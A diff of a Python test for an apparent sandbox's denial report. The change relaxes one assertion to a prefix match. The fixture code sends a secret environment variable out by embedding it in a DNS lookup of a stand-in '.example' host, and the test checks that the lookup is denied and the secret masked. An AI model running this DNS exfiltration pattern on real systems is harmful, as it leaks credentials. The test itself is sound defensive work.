@@ -206,5 +206,7 @@ def test_learn_lists_denials_that_no_flag_allows(user):
     code = "import os, socket\ntry:\n    socket.getaddrinfo(os.environ['TOK'] + '.example', 80)\n"
     code += "except OSError:\n    pass"
     lines = closing_lines(user, code, "--secret", "TOK", TOK="s3cr3tvalue42")
-    assert "denied: name ***.example (with the value of TOK)" in lines
+    assert any(
+        line.startswith("denied: name ***.example (with the value of TOK)") for line in lines
+    )
     assert not any("s3cr3t" in line or "everything" in line for line in lines)
